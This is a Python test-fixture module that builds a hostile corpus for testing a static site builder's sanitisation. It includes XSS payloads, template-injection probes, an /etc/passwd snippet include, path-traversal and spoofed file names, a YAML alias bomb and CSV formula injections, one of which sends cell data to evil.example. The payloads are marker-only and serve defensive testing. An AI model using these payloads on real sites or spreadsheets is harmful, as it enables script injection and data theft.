"""A reusable hostile corpus: attack strings and broken files, generated into a temp folder.

Nothing binary is committed: every file is written at test time. Every script payload sets
`window.__pwned` or calls alert(), so a browser test can tell whether content ever ran.

    write_hostile_project(root)   # a project whose every text field carries attacks
    write_broken_files(articles)  # empty, binary, truncated/encrypted PDF, huge, ... files
"""

from __future__ import annotations

import os
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import yaml

from tests.conftest import copy_project

# The marker every payload tries to set; it must stay undefined in the browser.
PWNED = "__pwned"

# name -> payload. Names are ASCII, so they make safe file names for the carriers.
PAYLOADS: dict[str, str] = {
    "script": "<script>window.__pwned=1;alert('script')</script>",
    "script_upper": "<SCRIPT SRC=data:text/javascript,window.__pwned=1></SCRIPT>",
    "img_onerror": '<img src=x onerror="window.__pwned=1;alert(2)">',
    "svg_onload": '<svg onload="window.__pwned=1"><circle r=5 /></svg>',
    "iframe": '<iframe src="javascript:window.__pwned=1" srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "object": '<object data="data:text/html,<script>window.__pwned=1</script>"></object>',
    "form": '<form action="javascript:window.__pwned=1"><button formaction="javascript:alert(3)">x</button></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    "anchor_js": '<a href="javascript:window.__pwned=1" onmouseover="window.__pwned=1">hover</a>',
    "md_link_js": "[Klick](javascript:window.__pwned=1)",
    "md_link_js_entity": "[Klick](jav&#x09;ascript:window.__pwned=1) [b](&#106;avascript:alert(4))",
    "md_link_data": "[d](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "md_image_data": "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md_image_title": '![x" onerror="window.__pwned=1](x.png "t\\" onload=\\"alert(5)")',
    "md_reference": "[Ref][r] und ![Bild][r]\n\n[r]: javascript:window.__pwned=1",
    "md_autolink": "<javascript:window.__pwned=1> <https://example.org/\"onmouseover=alert(6)>",
    "entities": "&#x3C;script&#x3E;window.__pwned=1&#x3C;/script&#x3E; &lt;b&gt;fett&lt;/b&gt; &amp;amp;",
    "jinja": "{{ 7*7 }} {% for x in range(3) %}X{% endfor %} {{ config.__class__.__init__.__globals__ }} {# c #}",
    "admonition": '!!! danger "<script>window.__pwned=1</script>"\n    eingerückt <b onclick=alert(7)>x</b>',
    "details": '??? note "x" \n    y {: onclick="alert(8)" }',
    "snippet": '--8<-- "/etc/passwd"\n;--8<-- "mkdocs.yml"',
    "attr_list": 'Absatz { onclick="window.__pwned=1" }\n{: onmouseover="window.__pwned=1" .md-button }',
    "heading_attr": '## Titel {#x onclick="window.__pwned=1" }',
    "raw_html_block": '<div markdown="1" onclick="window.__pwned=1">\n\n*x*\n\n</div>',
    "style": '<style>body{background:url("javascript:alert(9)")}</style><p style="position:fixed;inset:0">x</p>',
    "css_expression": '<span style="width:expression(alert(10))">x</span>',
    "table": "| a | <script>window.__pwned=1</script> |\n|---|---|\n| <img src=x onerror=alert(11)> | x |",
    "footnote": "Text[^1]\n\n[^1]: <script>window.__pwned=1</script> [f](javascript:alert(12))",
    "html_comment": '<!-- --><a href="javascript:window.__pwned=1">kommentar</a><!-- -->',
    "cdata": "<![CDATA[<script>window.__pwned=1</script>]]>",
    "bidi": "Harmlos \u202egnp.exe\u202c \u2066isoliert\u2069 \u200bnull\u200b breit \u2067rtl\u2069",
    "control": "Steuer\x1bzeichen[31m rot\x7f ende",
    "template_literal": "${alert(13)} `alert(14)` ${{7*7}}",
    "markdown_html_mix": '**<span onclick="alert(15)">fett</span>** _<u onmouseover=alert(16)>u</u>_',
    "svg_foreign": '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>',
    "math_xss": '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(17)>">',
    "title_breakout": "</title><script>window.__pwned=1</script><title>",
    "textarea_breakout": "</textarea></noscript></style><img src=x onerror=window.__pwned=1>",
    "csv_formula": "=HYPERLINK(\"https://evil.example/?\"&A1,\"klick\")",
    "csv_formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv_formula_plus": "+1+cmd|' /C calc'!A0",
    "csv_formula_minus": "-1+1|cmd",
    "url_field_like": "https://example.org/\" onclick=\"alert(18)",
}

# Short one-line payloads for places that hold a single line (titles, names, keywords).
LINE_PAYLOADS = {name: " ".join(p.split()) for name, p in PAYLOADS.items()}

# Script-ish fragments that must never be *active* in the built site.
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:image/svg")


def _benign(name: str) -> str:
    # Real words around the payload, so cleanup keeps the paragraph and analyzers have text.
    return f"Absatz vor dem Angriff {name}. Die Regierung in Berlin beriet am Montag über Zölle."


@dataclass(frozen=True, slots=True)
class HostileProject:
    mkdocs_file: Path
    articles: Path
    inputs: tuple[str, ...]  # every article file written (POSIX, relative to articles/)


def _front_matter(data: dict) -> str:
    return "---\n" + yaml.safe_dump(data, allow_unicode=True, sort_keys=False) + "---\n\n"


def _metadata(name: str, payload: str, day: int) -> dict:
    # Every metadata field carries the attack; the date is real so the article reaches the feed.
    return {
        "title": f"{payload} Titel {name}",
        "date": f"2025-03-{day:02d}",
        "source": f"{payload} Quelle",
        "url": "https://example.org/\"><script>alert(19)</script>",
        "authors": [f"{payload} Autor", "Erika Muster"],
        "language": "de",
        "tags": [payload],
        "teaser": f"Teaser {payload}",
    }


HOSTILE_FILE_NAMES = (
    "<img src=x onerror=alert(20)>.txt",
    '"onmouseover=alert(21) x=".txt',
    "[x](javascript:alert(22)).txt",
    "{{7*7}} {% raw %}.txt",
    "!!! danger.txt",
    "--8<-- snippet.txt",
    "\u202etxt.exe\u202c.txt",
    "CON.txt",
    "index.txt",
    "assets.txt",
    " leer .txt",
    "ｅｖｉｌ．．／ｐａｓｓｗｄ.txt",  # full-width look-alikes of evil../passwd
    "a" * 240 + ".txt",  # near the 255-byte limit of most file systems
)

HOSTILE_ACTORS = [
    {"name": "Evil Corp", "kind": "Organisation",
     "aliases": ["<script>window.__pwned=1</script>", "Böse AG"],
     "description": '<img src=x onerror="window.__pwned=1"> [x](javascript:alert(23)) {{ 7*7 }} !!! note',
     "role": "<svg onload=alert(24)>"},
    {"name": "Mallory <b onclick=alert(25)>Hacker</b>", "kind": "Person", "aliases": ["Mallory Hacker"],
     "description": "--8<-- \"/etc/passwd\""},
    {"name": "Jinja {{ 7*7 }} Stiftung", "kind": "Organisation", "aliases": ["Jinja Stiftung"]},
    {"id": "../../../etc/passwd", "name": "Pfad Verein", "kind": "Organisation"},
    {"id": "CON", "name": "Reserviert Verein", "kind": "Organisation"},
]

HOSTILE_TOPICS = [
    {"id": "boese", "name": "<script>window.__pwned=1</script> Handel",
     "keywords": ["Zölle", "<img src=x onerror=alert(26)>", "{{ 7*7 }}"],
     "description": "[x](javascript:alert(27)) {: onclick=alert(28) }"},
]


def hostile_cases() -> Iterator[tuple[str, str]]:
    """(carrier, payload name) of every case the hostile project contains (for the report)."""
    for name in PAYLOADS:
        yield "txt body + sidecar metadata", name
        yield "md body + front matter", name
    yield "sidecar url", "javascript:"
    yield "html page (title, meta, body)", "all payloads"
    for name in HOSTILE_FILE_NAMES:
        yield "file name", name
    for actor in HOSTILE_ACTORS:
        yield "actors.yml", actor["name"]
    for topic in HOSTILE_TOPICS:
        yield "topics.yml", topic["name"]


def write_hostile_project(root: Path) -> HostileProject:
    """A copy of the project whose articles, metadata, file names and registries are all attacks."""
    mkdocs_file = copy_project(root, with_articles=False)
    content = root / "content"
    articles = content / "articles"
    inputs: list[str] = []
    actor_mentions = "Evil Corp und Böse AG streiten mit Mallory Hacker und der Jinja Stiftung, Pfad Verein und Reserviert Verein."
    for day, (name, payload) in enumerate(PAYLOADS.items(), start=1):
        meta = _metadata(name, LINE_PAYLOADS[name], day % 28 + 1)
        body = f"{_benign(name)}\n\n{payload}\n\n{actor_mentions} Ende {name}.\n"
        txt = articles / "txt" / f"{name}.txt"
        txt.parent.mkdir(parents=True, exist_ok=True)
        txt.write_text(body, encoding="utf-8")
        (articles / "txt" / f"{name}.yml").write_text(yaml.safe_dump(meta, allow_unicode=True), encoding="utf-8")
        md = articles / "md" / f"{name}.md"
        md.parent.mkdir(parents=True, exist_ok=True)
        md.write_text(_front_matter(meta) + f"# {LINE_PAYLOADS[name]}\n\n" + body.replace("Absatz vor", "Markdown vor"),
                      encoding="utf-8")
        inputs += [f"txt/{name}.txt", f"md/{name}.md"]
    # One saved web page carrying every payload: as escaped text in paragraphs and as live markup.
    import html as _html
    paragraphs = "\n".join(f"<p>{_html.escape(p)} Die Regierung beriet am Montag.</p>\n{p}" for p in PAYLOADS.values())
    page = (f"<!doctype html><html><head><title>{LINE_PAYLOADS['title_breakout']}</title>"
            f"<meta name=\"author\" content=\"{_html.escape(LINE_PAYLOADS['script'])}\">"
            f"<script>window.__pwned=1</script></head><body onload=\"window.__pwned=1\"><article>"
            f"<h1>{_html.escape(LINE_PAYLOADS['img_onerror'])}</h1>{paragraphs}</article></body></html>")
    (articles / "html").mkdir()
    (articles / "html" / "alles.html").write_text(page, encoding="utf-8")
    inputs.append("html/alles.html")
    # A script URL in the metadata: the reader may refuse the file or drop the URL, never link it.
    (articles / "txt" / "url-javascript.txt").write_text(_benign("url-javascript") + "\n", encoding="utf-8")
    (articles / "txt" / "url-javascript.yml").write_text(
        yaml.safe_dump({"title": "Skript-Adresse", "url": "javascript:window.__pwned=1"}), encoding="utf-8")
    inputs.append("txt/url-javascript.txt")
    names_dir = articles / "namen"
    names_dir.mkdir()
    for i, file_name in enumerate(HOSTILE_FILE_NAMES):
        (names_dir / file_name).write_text(f"Datei mit feindlichem Namen Nummer {i}. Die Regierung beriet.\n",
                                           encoding="utf-8")
        inputs.append(f"namen/{file_name}")
    (content / "actors.yml").write_text(yaml.safe_dump(HOSTILE_ACTORS, allow_unicode=True), encoding="utf-8")
    (content / "topics.yml").write_text(yaml.safe_dump(HOSTILE_TOPICS, allow_unicode=True), encoding="utf-8")
    return HostileProject(mkdocs_file, articles, tuple(sorted(inputs)))


# --------------------------------------------------------------------------- broken files


def _pdf_bytes(text: str, *, password: str | None = None) -> bytes:
    """A one-page PDF with `text` in its text layer (pypdf only; optionally encrypted)."""
    import io

    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})})
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 12 Tf 72 770 Td ({text}) Tj ET".encode("latin-1"))
    page[NameObject("/Contents")] = writer._add_object(stream)
    if password is not None:
        writer.encrypt(user_password=password, owner_password=password + "-owner")  # RC4-128: no `cryptography` needed
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


HUGE_BYTES = 50 * 1024 * 1024
# A 200 kB line without a sentence end: one "sentence" of 40,000 words (tables in PDFs look like this).
LONG_LINE = "Wort " * 40_000


def broken_files() -> dict[str, bytes | None]:
    """relpath -> bytes of every broken input (None: made specially, see write_broken_files)."""
    good_pdf = _pdf_bytes("Ein Bericht ueber Zoelle und Handel.")
    return {
        "kaputt/leer.txt": b"",
        "kaputt/nur-leerzeichen.md": b" \n\t\n \n",
        "kaputt/binaer.txt": bytes(range(256)) * 64,
        "kaputt/bild-als-text.md": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + os.urandom(512),
        "kaputt/abgeschnitten.pdf": good_pdf[: len(good_pdf) // 2],
        "kaputt/kein-pdf.pdf": b"%PDF-1.7\nDas ist gar kein PDF.\n",
        "kaputt/verschluesselt.pdf": _pdf_bytes("Geheimer Text", password="geheim"),
        "kaputt/lange-zeile.txt": ("Wort " * 4_000).encode("ascii"),  # one 20 kB line (see LONG_LINE)
        "kaputt/falsche-kodierung.txt": "Zölle für Käse, Grüße aus Köln. Die Maßnahmen gelten ab März.".encode("cp1252")
        + b"\xff\xfe\x81\x8d",
        "kaputt/kaputte-utf8.md": b"---\ntitle: \xc3\x28 halb\n---\n\nText mit \xe2\x82 kaputtem UTF-8.\n",
        "kaputt/gross.txt": None,  # HUGE_BYTES, streamed to disk
        "kaputt/sidecar-kaputt.txt": "Ein guter Text mit kaputtem Sidecar. Die Regierung beriet.\n".encode(),
        "kaputt/sidecar-kaputt.yml": b"title: [nicht geschlossen\n  date: : :\n\t- tab\n",
        "kaputt/sidecar-falsch.txt": "Ein guter Text mit falschen Sidecar-Typen. Die Regierung beriet.\n".encode(),
        "kaputt/sidecar-falsch.yml": b"title: [1, 2]\ndate: 2025-13-45\nauthors: 7\nlanguage: {x: 1}\n",
        "kaputt/frontmatter-kaputt.md": b"---\ntitle: [offen\n---\n\nText mit kaputtem Front Matter. Die Regierung beriet.\n",
        "kaputt/sidecar-yaml-bombe.txt": "Text mit Alias-Bombe im Sidecar. Die Regierung beriet.\n".encode(),
        "kaputt/sidecar-yaml-bombe.yml": (b'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
                                          + b"".join(f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n".encode() for i in range(8))
                                          + b"title: *i\n"),
        "kaputt/schleife": None,  # symlink loop (a folder linking to itself)
        "kaputt/ins-leere.txt": None,  # dangling symlink
        "kaputt/unbekannt.docx": b"PK\x03\x04 not really a docx",
        # Hidden files and editor backups are skipped, but named in the report (never silently dropped).
        "kaputt/..txt": "Versteckt, weil der Name mit einem Punkt beginnt. Die Regierung beriet.\n".encode(),
        "kaputt/.versteckt.md": "Versteckter Artikel. Die Regierung beriet.\n".encode(),
        "kaputt/notiz.txt~": "Sicherungskopie eines Editors. Die Regierung beriet.\n".encode(),
        "kaputt/.notiz.txt.swp": b"b0VIM 8.2\0\0\0\0" + bytes(range(256)),
    }


# Inputs whose file itself is fine but whose sidecar is broken: they may become a page (with a
# warning) or be rejected, but must be named in the report either way.
SIDECAR_CASES = ("kaputt/sidecar-kaputt.txt", "kaputt/sidecar-falsch.txt", "kaputt/sidecar-yaml-bombe.txt")


def write_broken_files(articles: Path) -> list[str]:
    """Write every broken input below `articles`; return the relpaths of article files written."""
    written = []
    for relpath, data in broken_files().items():
        target = articles / relpath
        target.parent.mkdir(parents=True, exist_ok=True)
        if relpath == "kaputt/gross.txt":
            line = ("Zölle und Handel sind ein großes Thema. " * 25 + "\n").encode("utf-8")
            with target.open("wb") as handle:
                for _ in range(HUGE_BYTES // len(line) + 1):
                    handle.write(line)
        elif relpath == "kaputt/schleife":
            target.mkdir()
            (target / "zurueck").symlink_to("..", target_is_directory=True)
            (target / "selbst").symlink_to("selbst")
            continue
        elif relpath == "kaputt/ins-leere.txt":
            target.symlink_to(articles / "gibt-es-nicht.txt")
        else:
            target.write_bytes(data)
        if not relpath.endswith(".yml"):
            written.append(relpath)
    return written


def nfc_nfd(name: str) -> tuple[str, str]:
    return unicodedata.normalize("NFC", name), unicodedata.normalize("NFD", name)
